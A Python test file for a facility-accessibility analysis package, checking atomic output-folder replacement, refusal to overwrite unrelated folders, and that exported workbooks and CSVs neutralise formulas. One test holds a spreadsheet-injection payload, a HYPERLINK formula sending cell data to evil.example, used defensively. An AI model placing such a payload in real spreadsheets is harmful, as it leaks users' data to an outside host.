"""Atomic writes: a finished folder replaces the old one; a failure leaves it intact; batch
sub-folders of a run folder survive a new run."""

from __future__ import annotations

import pytest

from accessibility._io import atomic_dir


def test_atomic_dir_replaces_keeps_batch_folders_and_survives_failure(tmp_path):
    out = tmp_path / "run"
    with atomic_dir(out) as tmp:
        (tmp / "a.csv").write_text("1")
    (out / "scenarios" / "flat").mkdir(parents=True)
    (out / "scenarios" / "flat" / "x.csv").write_text("s")
    (out / "unit_siting").mkdir()
    # a new run replaces its own files, keeps the batch results written into its folder
    with atomic_dir(out, keep=("scenarios", "unit_siting")) as tmp:
        (tmp / "b.csv").write_text("2")
    assert sorted(p.name for p in out.iterdir()) == ["b.csv", "scenarios", "unit_siting"]
    assert (out / "scenarios" / "flat" / "x.csv").read_text() == "s"
    assert not any(p.name.startswith(".") for p in tmp_path.iterdir())  # no leftovers
    # a failed run leaves everything as it was
    with pytest.raises(RuntimeError), atomic_dir(out, keep=("scenarios",)) as tmp:
        (tmp / "c.csv").write_text("3")
        raise RuntimeError("boom")
    assert sorted(p.name for p in out.iterdir()) == ["b.csv", "scenarios", "unit_siting"]
    assert not any(p.name.startswith(".") for p in tmp_path.iterdir())


def test_run_refuses_a_folder_that_is_not_a_run_folder(tmp_path):
    """Review finding: `run --out` on a folder with other files would have replaced it whole."""
    from accessibility._errors import DataError
    from accessibility.pipeline import COMPLETE_MARKER, _check_output_dir

    _check_output_dir(tmp_path / "new")  # fine: does not exist
    (tmp_path / "empty").mkdir()
    _check_output_dir(tmp_path / "empty")  # fine: empty
    mine = tmp_path / "project"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep me")
    with pytest.raises(DataError, match="holds no earlier run"):
        _check_output_dir(mine)
    assert (mine / "notes.txt").read_text() == "keep me"
    (tmp_path / "earlier").mkdir()
    (tmp_path / "earlier" / COMPLETE_MARKER).write_text("{}")
    (tmp_path / "earlier" / "a.csv").write_text("1")
    _check_output_dir(tmp_path / "earlier")  # an earlier run's folder may be replaced


def test_workbook_never_holds_formulas(tmp_path):
    import openpyxl
    import pandas as pd

    from accessibility.config import load_area
    from accessibility.pipeline import _rounded
    from accessibility.report import write_workbook

    cfg = load_area("config/areas/jiangbei.yaml", check_files=False)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"养老服务站")'
    df = pd.DataFrame({"name": [hostile, "+1+1", "普通名称"], "n": [1, -2, 3]})
    path = write_workbook(tmp_path / "x.xlsx", {"facilities": df}, config=cfg)
    ws = openpyxl.load_workbook(path)["facilities"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == hostile for c in cells)  # kept as text, not lost
    safe = _rounded(df)  # CSVs: a leading apostrophe, so Excel/WPS show text
    assert safe["name"].tolist() == ["'" + hostile, "'+1+1", "普通名称"] and safe["n"].tolist() == [1, -2, 3]
